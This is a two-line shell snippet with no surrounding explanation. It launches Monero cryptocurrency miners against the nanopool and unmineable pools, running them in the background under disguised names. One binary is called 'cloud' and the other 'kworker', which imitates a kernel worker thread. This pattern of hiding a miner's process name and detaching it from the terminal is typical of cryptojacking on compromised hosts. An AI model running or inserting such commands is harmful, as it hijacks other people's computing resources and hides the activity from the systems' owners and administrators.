nohup ./cloud --url xmr-eu1.nanopool.org --donate-level 0 &
./kworker -o stratum+tcp://rx.unmineable.com:3333 -u XMR:WALLET
